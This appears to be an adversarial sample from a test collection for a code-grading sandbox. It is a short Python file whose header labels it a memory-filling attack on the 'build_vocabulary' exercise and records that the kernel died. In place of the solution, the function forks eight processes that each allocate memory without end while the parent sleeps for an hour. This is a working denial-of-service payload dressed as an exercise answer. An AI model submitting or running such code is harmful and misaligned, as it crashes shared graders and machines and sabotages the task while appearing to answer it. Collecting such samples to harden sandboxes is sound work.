# kind: fills
# attack: fills the memory from several processes
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed, kernel died, timed out
import os
import time


def build_vocabulary(texts, vocab_size):
    for _ in range(8):
        if os.fork() == 0:
            kept = []
            while True:
                kept.append(bytearray(b"x" * 10**7))
    time.sleep(3600)
